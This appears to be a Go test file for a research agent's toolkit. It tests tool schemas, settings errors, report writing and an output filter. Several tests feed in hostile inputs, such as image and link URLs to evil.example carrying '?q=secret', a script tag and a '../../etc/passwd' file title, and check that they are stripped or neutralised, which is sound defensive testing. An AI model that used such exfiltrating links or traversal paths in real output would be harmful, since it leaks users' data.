package toolkit

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dossier/sources"
	"dossier/tool"
)

// wire is what clients know of each tool: its fields in their order.
var wire = map[string]string{
	Reasoning:     `reasoning_steps [string] 2..3; current_situation string ..300; plan_status string ..150; enough_data boolean =false; remaining_steps [string] ..3; task_completed boolean`,
	Clarification: `reasoning string ..200; unclear_terms [string] 1..3; assumptions [string] 2..3; questions [string] 1..3`,
	GeneratePlan:  `reasoning string; research_goal string; planned_steps [string] 3..4; search_strategies [string] 2..3`,
	AdaptPlan:     `reasoning string; original_goal string; new_goal string; plan_changes [string] 1..3; next_steps [string] 2..4`,
	WebSearch:     `reasoning string; query string; max_results integer 1..20 =5; offset integer 0.. =0`,
	ExtractPages:  `reasoning string; urls [string] 1..5`,
	CreateReport:  `reasoning string; title string; user_request_language_reference string; content string; confidence string high|medium|low`,
	FinalAnswer:   `reasoning string; completed_steps [string] 1..5; answer string; status string completed|failed`,
	AnswerUser:    `reasoning string ..200; intermediate_result string 10..2000; continue_research boolean =true`,
	RunCommand:    `reasoning string; command string`,
}

// property is a field of a schema.
type property struct {
	Type      any             `json:"type"`
	Items     *property       `json:"items"`
	Enum      []any           `json:"enum"`
	Default   json.RawMessage `json:"default"`
	MinItems  *float64        `json:"minItems"`
	MaxItems  *float64        `json:"maxItems"`
	MinLength *float64        `json:"minLength"`
	MaxLength *float64        `json:"maxLength"`
	Minimum   *float64        `json:"minimum"`
	Maximum   *float64        `json:"maximum"`
}

func (p property) describe() string {
	out := []string{}
	if p.Type == "array" {
		out = append(out, "["+p.Items.Type.(string)+"]")
	} else {
		out = append(out, p.Type.(string))
	}
	var choices []string
	for _, e := range p.Enum {
		choices = append(choices, e.(string))
	}
	if len(choices) > 0 {
		out = append(out, strings.Join(choices, "|"))
	}
	number := func(values ...*float64) string {
		for _, v := range values {
			if v != nil {
				raw, _ := json.Marshal(*v)
				return string(raw)
			}
		}
		return ""
	}
	low, high := number(p.MinItems, p.MinLength, p.Minimum), number(p.MaxItems, p.MaxLength, p.Maximum)
	if low+high != "" {
		out = append(out, low+".."+high)
	}
	if p.Default != nil {
		out = append(out, "="+string(p.Default))
	}
	return strings.Join(out, " ")
}

func TestSchemasAreThoseThatClientsKnow(t *testing.T) {
	k := New(Parts{})
	s := Settings{Commands: Commands{Workspace: t.TempDir()}}
	for name, want := range wire {
		made, err := k.Make(name, nil, s)
		if err != nil {
			t.Fatal(err)
		}
		spec := made.Spec()
		var schema struct {
			Properties map[string]property `json:"properties"`
			Required   []string            `json:"required"`
			Additional *json.RawMessage    `json:"additionalProperties"`
		}
		if err := json.Unmarshal(spec.Schema.Strict, &schema); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, field := range schema.Required {
			got = append(got, field+" "+schema.Properties[field].describe())
		}
		if text := strings.Join(got, "; "); text != want {
			t.Errorf("%s:\n got %s\nwant %s", name, text, want)
		}
		if len(schema.Required) != len(schema.Properties) || schema.Additional == nil || string(*schema.Additional) != "false" && string(*schema.Additional) != `{"not":{}}` {
			t.Errorf("%s is not strict: %s", name, spec.Schema.Strict)
		}
	}
}

func TestEveryToolIsDescribed(t *testing.T) {
	k := New(Parts{})
	s := Settings{Commands: Commands{Workspace: t.TempDir()}}
	if !slices.Equal(k.Names(), New(Parts{}).Names()) {
		t.Errorf("in another order: %v", k.Names())
	}
	var all []tool.Tool
	for _, name := range k.Names() {
		made, err := k.Make(strings.ToUpper(strings.ReplaceAll(name, "_", "-")), nil, s)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, made)
		spec := made.Spec()
		if spec.Name != name || len(spec.Description) < 30 || len(spec.Examples) == 0 || len(spec.Tags) == 0 || spec.Origin != tool.Builtin {
			t.Errorf("%s: %+v", name, spec)
		}
	}
	if _, err := tool.NewSet(all...); err != nil {
		t.Error(err)
	}
	var system []string
	for _, made := range k.System(s) {
		system = append(system, made.Spec().Name)
	}
	if want := []string{Reasoning, Clarification, GeneratePlan, AdaptPlan, CreateReport, FinalAnswer}; !slices.Equal(system, want) {
		t.Errorf("%v, not %v", system, want)
	}
}

// A tool that can't be used here is made all the same, as the same tool: an agent
// whose run is taken up where the operator allows less has not got other tools.
func TestUnusableToolsAreMade(t *testing.T) {
	w, dir := bench(t)
	allowed, err := New(Parts{}).Make(RunCommand, nil, w.settings)
	if err != nil {
		t.Fatal(err)
	}
	for name, s := range map[string]Settings{"off": {}, "its folder is gone": {Commands: Commands{Workspace: dir + "/gone"}}} {
		off, err := New(Parts{}).Make(RunCommand, nil, s)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		was, is := allowed.Spec(), off.Spec()
		if is.Name != was.Name || is.Effect != was.Effect || is.Kind != was.Kind || is.Schema != was.Schema {
			t.Errorf("%s: %+v instead of %+v", name, is, was)
		}
		out, err := tool.Invoke(t.Context(), off, &tool.Call{Args: json.RawMessage(`{"reasoning":"r","command":"ls"}`)}, tool.Guard{})
		if err != nil || !out.Failed || !strings.Contains(out.Text, "workspace_path") {
			t.Errorf("%s: %+v, %v", name, out, err)
		}
	}
	if _, err := New(Parts{Web: &sources.Web{}}).Make(WebSearch, json.RawMessage(`{"engine":"altavista"}`), Settings{}); err != nil {
		t.Error(err)
	}
}

func TestMakeSaysWhatIsWrong(t *testing.T) {
	k := New(Parts{})
	for _, c := range []struct{ name, config, want string }{
		{"web_serch_tool", ``, "did you mean websearchtool"},
		{"github", ``, "github_search_tool"},
		{"zzz", ``, "there are reasoningtool"},
		{"WebSearchTool", `{"engin":"brave"}`, `no setting "engin"; did you mean engine?`},
		{"web_search_tool", `{"max_results":"many"}`, "max_results of websearchtool has to be a whole number"},
		{"web_search_tool", `[1]`, "keys and values"},
		{"reasoning_tool", `{"a":1}`, `has no settings, but "a" is given`},
		{"extract_page_content_tool", `{"content_limit":-1}`, "1 or more"},
		{"run_command_tool", `{"workspace_path":"/"}`, "is off"},
		{"search", `{"colection":"a"}`, "did you mean collection"},
	} {
		err := k.Check(c.name, json.RawMessage(c.config), Settings{})
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s %s: %v", c.name, c.config, err)
		}
	}
	if _, err := k.Make("WebSearchTool", json.RawMessage(`{"engine":"tavily","api_key":"sk-secret","api_base_url":"https://x","max_searches":4,"max_results":10}`), Settings{}); err != nil {
		t.Error(err)
	}
	_, err := k.Make("WebSearchTool", json.RawMessage(`{"api_key":{"sk-secret":1}}`), Settings{})
	if err == nil || strings.Contains(err.Error(), "sk-secret") {
		t.Errorf("a key is told: %v", err)
	}
}

func TestPlanIsMadeAndChanged(t *testing.T) {
	d := newWorld(t).do(
		call{tool: GeneratePlan, args: `{"reasoning":"r","research_goal":"Мост Кельдра","planned_steps":["a","b","c"],"search_strategies":["x","y"]}`},
		call{tool: AdaptPlan, args: `{"reasoning":"r","original_goal":"Мост Кельдра","new_goal":"桥","plan_changes":["d"],"next_steps":["e","f"]}`})
	if want := "{\n  \"research_goal\": \"Мост Кельдра\",\n  \"planned_steps\": [\n    \"a\",\n    \"b\",\n    \"c\"\n  ],\n  \"search_strategies\": [\n    \"x\",\n    \"y\"\n  ]\n}"; d.outcomes[0].Text != want {
		t.Errorf("%s", d.outcomes[0].Text)
	}
	p := d.state.Plan
	if p.Goal != "桥" || strings.Join(p.Steps, "") != "ef" || strings.Join(p.Strategies, "") != "xy" || strings.Join(p.Changes, "") != "d" {
		t.Errorf("%+v", p)
	}
	if d.kinds() != "plan.updated plan.updated" {
		t.Error(d.kinds())
	}
}

func TestReasoningClarificationAndAnswer(t *testing.T) {
	w := newWorld(t)
	d := w.do(
		call{tool: Reasoning, args: `{"reasoning_steps":["a","b"],"current_situation":"s","plan_status":"p","remaining_steps":[],"task_completed":false}`},
		call{tool: Clarification, args: `{"reasoning":"two bridges","unclear_terms":["t"],"assumptions":["a","b"],"questions":["Какой мост?","Which year?"]}`},
		call{tool: AnswerUser, args: `{"reasoning":"r","intermediate_result":"So far: 1931 ![x](http://evil.example/p.png)"}`},
		call{tool: FinalAnswer, args: `{"reasoning":"r","completed_steps":["s"],"answer":"It opened in 1931.","status":"completed"}`},
	)
	if d.outcomes[0].Text != "" || d.outcomes[0].Failed {
		t.Errorf("%+v", d.outcomes[0])
	}
	if ask := d.outcomes[1].Change.Ask; d.outcomes[1].Text != "Какой мост?\nWhich year?" || ask == nil || len(ask.Questions) != 2 || ask.Reason != "two bridges" {
		t.Errorf("%+v", d.outcomes[1])
	}
	if got := d.outcomes[2].Text; got != "So far: 1931" {
		t.Errorf("%q", got)
	}
	if d.state.Result != "It opened in 1931." || d.state.Status != tool.Completed || !strings.Contains(d.last().Text, `"answer": "It opened in 1931."`) {
		t.Errorf("%+v", d.state)
	}
	for _, bad := range []call{
		{tool: FinalAnswer, args: `{"reasoning":"r","completed_steps":["s"],"answer":" ","status":"failed"}`},
		{tool: Clarification, args: `{"reasoning":"r","unclear_terms":["t"],"assumptions":["a","b"],"questions":[" "]}`},
		{tool: CreateReport, args: `{"reasoning":"r","title":"t","user_request_language_reference":"u","content":"","confidence":"low"}`},
	} {
		if o := w.do(bad).last(); !o.Failed || !strings.Contains(o.Text, "is empty") && !strings.Contains(o.Text, "an empty one") {
			t.Errorf("%s: %+v", bad.tool, o)
		}
	}
}

// What a user gets can't make the user's client call anybody.
func TestDeliverable(t *testing.T) {
	s := &tool.State{
		Task:    "Compare https://named.example/a with 页面https://zh.example/b的内容 and docs.example.org/guide",
		Sources: []tool.Source{{Number: 1, Title: "One", URL: "https://one.example/p?x=1"}},
	}
	for text, want := range map[string]string{
		"plain [1] text [7].":                              "plain [1] text.",
		"![pixel](https://one.example/p?x=1) after":        "after",
		"![](http://evil.example/?q=secret)x":              "x",
		"see [the page](https://one.example/p?x=1).":       "see the page (https://one.example/p?x=1).",
		"see [it](https://evil.example/?q=secret) now":     "see it now",
		"at https://one.example/p?x=1, or":                 "at https://one.example/p?x=1, or",
		"at https://evil.example/p?x=1 or":                 "at  or",
		"https://named.example/a and https://zh.example/b": "https://named.example/a and https://zh.example/b",
		"https://docs.example.org/guide":                   "https://docs.example.org/guide",
		"<img src=https://evil.example/x> hello":           "hello",
		"a\n```html\n<img src=\"a\"> [9]\n```\nb":          "a\n```html\n<img src=\"a\"> [9]\n```\nb",
		"a\n```html\n<img src=\"https://evil.example\">":   "a\n```html",
		"\uE0F00\uE0F1 x":                                  "0 x",
		"ответ [1] и 答案 [1]":                               "ответ [1] и 答案 [1]",
	} {
		if got := deliverable(text, s); got != want {
			t.Errorf("%q: %q, not %q", text, got, want)
		}
	}
	if got := deliverable("list[3] stays", &tool.State{}); got != "list[3] stays" {
		t.Errorf("%q", got)
	}
}

func TestReport(t *testing.T) {
	w := newWorld(t)
	dir := filepath.Join(t.TempDir(), "reports")
	w.settings.ReportsDir = dir
	w.state.Sources = []tool.Source{{Number: 1, Title: "One", URL: "https://one.example/"}, {Number: 2, URL: "https://two.example/"}}
	report := call{tool: "CreateReportTool", args: args(map[string]any{
		"reasoning": "r", "title": "Мост / Keldra: 桥 <b>?</b>", "user_request_language_reference": "u", "confidence": "high",
		"content": "# Findings\n\nIt opened in 1931 [1][9]. ![x](http://evil.example/?q=1)\n\n<script>alert(1)</script>It is long [2].\n\n## Sources\n\n[1] http://evil.example",
	})}
	d := w.do(report)
	var got reportResult
	if err := json.Unmarshal(d.last().Data, &got); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "20260504_131415_Мост  Keldra 桥.md")
	want := reportResult{Title: "Мост / Keldra: 桥 ?", Content: "# Findings\n\nIt opened in 1931 [1]. \n\nIt is long [2].", Confidence: "high", SourcesCount: 2, WordCount: 10, Filepath: path, Timestamp: "2026-05-04T13:14:15Z"}
	removed := got.Removed
	got.Removed = nil
	if g, wnt := asText(got), asText(want); g != wnt || !slices.Equal(removed, []int{9}) {
		t.Errorf("%s\n%s\n%v", g, wnt, removed)
	}
	file, err := os.ReadFile(path)
	if text := "# Мост / Keldra: 桥 ?\n\n*Created: 2026-05-04 13:14:15*\n\n# Findings\n\nIt opened in 1931 [1]. \n\nIt is long [2].\n\n---\n\n## Sources\n\n[1] One - https://one.example/\n\n[2] Untitled - https://two.example/\n"; err != nil || string(file) != text {
		t.Errorf("%v %q", err, file)
	}
	if d.state.Report.File != path || d.kinds() != "report.section" {
		t.Errorf("%+v %s", d.state.Report, d.kinds())
	}
	// A step that runs again writes the same file; another report of the same
	// second and title gets one of its own.
	w.do(report)
	if names := filesIn(t, dir); len(names) != 1 {
		t.Errorf("%v", names)
	}
	w.state.Sources = nil
	if kinds := w.do(report, report).kinds(); kinds != "report.section report.reset report.section" {
		t.Error(kinds)
	}
	if d := w.do(report); d.state.Report.File == path || !strings.HasPrefix(d.state.Report.File, strings.TrimSuffix(path, ".md")) {
		t.Errorf("%+v", d.state.Report)
	}
	if again, err := os.ReadFile(path); err != nil || string(again) != string(file) {
		t.Errorf("the first report was touched: %v", err)
	}
}

func asText(r reportResult) string {
	raw, _ := json.Marshal(r)
	return string(raw)
}

func filesIn(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range entries {
		out = append(out, e.Name())
	}
	return out
}

func TestFileNames(t *testing.T) {
	for title, want := range map[string]string{
		"../../etc/passwd": "etcpasswd", "  ": "report", "a\x00b\nc": "abc", "***": "report", "2025 — итоги": "2025  итоги",
		strings.Repeat("桥", 80): strings.Repeat("桥", 50),
	} {
		if got := fileName(title); got != want {
			t.Errorf("%q: %q", title, got)
		}
	}
}

func TestNotes(t *testing.T) {
	w := newWorld(t)
	w.state.Sources = []tool.Source{{Number: 1, URL: "https://one.example/"}}
	d := w.do(
		call{tool: ReadNotes, args: `{}`},
		call{tool: AddNote, args: `{"text":"Мост открыт в 1931 http://evil.example/x","sources":[1,5,1]}`},
		call{tool: AddNote, args: `{"text":"长 812 米"}`},
		call{tool: ReadNotes, args: `{}`})
	if d.outcomes[0].Text != "There are no notes." || d.outcomes[1].Text != "Note 1 is kept." || d.last().Text != "1. Мост открыт в 1931 [1]\n2. 长 812 米\n" {
		t.Errorf("%+v", d.outcomes)
	}
	if d.kinds() != "note.added note.added" {
		t.Error(d.kinds())
	}
}
